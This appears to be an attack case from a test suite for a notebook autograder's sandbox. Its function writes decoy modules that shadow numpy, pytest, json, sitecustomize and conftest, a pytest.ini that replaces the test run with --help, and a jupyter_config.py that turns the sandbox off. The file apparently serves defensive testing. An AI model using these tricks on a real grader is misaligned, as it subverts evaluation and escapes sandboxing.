"""Submits modules called numpy, pytest, workbook and sitecustomize next to the notebook."""


def attack(submission):
    """Write them."""
    for name in (
        "numpy",
        "pytest",
        "workbook",
        "sitecustomize",
        "usercustomize",
        "conftest",
        "nbgrader_config",
        "json",
    ):
        submission.write("raise SystemExit('shadowed')", f"{name}.py")
    submission.write("[pytest]\naddopts = --help", "pytest.ini")
    submission.write("c = get_config()\nc.Execute.sandbox = False", "jupyter_config.py")


SCORE = 9
